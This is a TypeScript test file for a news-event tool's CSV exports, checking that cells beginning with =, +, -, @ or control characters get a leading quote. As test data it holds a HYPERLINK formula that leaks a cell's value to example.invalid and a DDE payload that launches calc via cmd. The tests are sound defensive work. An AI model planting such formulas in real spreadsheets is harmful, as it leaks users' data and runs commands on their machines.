/**
 * CSV formula injection (OWASP): a cell that begins with =, +, -, @, tab or
 * CR is run by a spreadsheet as a formula. Every CSV sitrep writes (export
 * csv and acled, query csv, stats csv) neutralises such cells with a leading
 * ' by default; plain numbers stay numbers; --csv-raw writes cells unchanged.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { csvCell, neutraliseFormula, toCsv } from "../../src/export/csv.js";
import { openDatabase } from "../../src/db/openDatabase.js";
import { ingest } from "../../src/pipeline/ingest.js";
import { runInProcess } from "../helpers.js";

const EVENT_KEY = `=HYPERLINK("http:\\\\example.invalid?leak="&A1,"open")`;
const QUIET_KEY = "@SUM(1+1)*cmd|' -C calc'!A0";

let dir: string;
let file: string;
beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "sitrep-csvinj-"));
  const src = join(dir, "articles");
  mkdirSync(src);
  writeFileSync(join(src, `${EVENT_KEY}.txt`), " date 2023-11-24\nMilitants fired three rockets at al-Asad Air Base in Iraq on Thursday, a US official said.\n");
  writeFileSync(join(src, `${QUIET_KEY}.txt`), " date 2023-11-24\nThe committee met on Tuesday to discuss the budget.\n");
  file = join(dir, "s.sqlite");
  const db = openDatabase(file);
  const r = await ingest(db, [src], { referenceDate: "2023-12-15" });
  db.close();
  if (r.failed) throw new Error(JSON.stringify(r.failures));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const rows = (csv: string): Array<Record<string, string>> => parse(csv, { columns: true }) as Array<Record<string, string>>;

describe("csv formula injection", () => {
  it("cells_starting_with_a_formula_trigger_get_a_leading_quote", () => {
    for (const text of ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-cmd", "+", "=", "-2023-11-24"]) expect(neutraliseFormula(text), JSON.stringify(text)).toBe(`'${text}`);
    for (const text of ["Iraq", "1+1", "a=b", "'quoted", "", " =spaced"]) expect(neutraliseFormula(text), JSON.stringify(text)).toBe(text);
  });

  it("plain_numbers_stay_numbers", () => {
    for (const text of ["-5", "44.39", "+3", "-0.5", "1e3", "-1.5E-3"]) expect(neutraliseFormula(text), text).toBe(text);
    expect(csvCell(-5)).toBe(-5);
    const out = rows(toCsv(["a", "b", "c"] as const, [{ a: -5, b: "-5", c: "=-5" }]));
    expect(out[0]).toEqual({ a: "-5", b: "-5", c: "'=-5" });
  });

  it("raw_writes_cells_unchanged", () => {
    expect(rows(toCsv(["a"] as const, [{ a: "=1+1" }], { raw: true }))[0]).toEqual({ a: "=1+1" });
    expect(rows(toCsv(["a"] as const, [{ a: ["@x", "y"] }]))[0]).toEqual({ a: "'@x; y" });
  });

  it("export_csv_and_acled_query_csv_and_stats_csv_neutralise_by_default_and_csv_raw_does_not", async () => {
    const cases: Array<{ argv: string[]; column: string; key: string; select?: (r: Record<string, string>) => boolean }> = [
      { argv: ["export", "--format", "csv"], column: "article", key: EVENT_KEY },
      { argv: ["export", "--format", "acled"], column: "source", key: EVENT_KEY },
      { argv: ["query", "--format", "csv"], column: "article", key: EVENT_KEY },
      { argv: ["stats", "--format", "csv"], column: "value", key: QUIET_KEY, select: (r) => r.section === "article without events" },
    ];
    for (const c of cases) {
      const safe = await runInProcess([...c.argv, "--db", file]);
      expect(safe.code, safe.stderr).toBe(0);
      const picked = rows(safe.stdout).filter(c.select ?? (() => true));
      expect(picked.length, c.argv.join(" ")).toBeGreaterThan(0);
      for (const r of picked) expect(r[c.column], c.argv.join(" ")).toBe(`'${c.key}`);
      const raw = await runInProcess([...c.argv, "--csv-raw", "--db", file]);
      expect(raw.code, raw.stderr).toBe(0);
      for (const r of rows(raw.stdout).filter(c.select ?? (() => true))) expect(r[c.column], c.argv.join(" ")).toBe(c.key);
    }
  });

  it("json_is_not_touched", async () => {
    const json = JSON.parse((await runInProcess(["export", "--db", file])).stdout) as Array<{ article: string }>;
    expect(json.map((a) => a.article)).toContain(EVENT_KEY);
  });
});
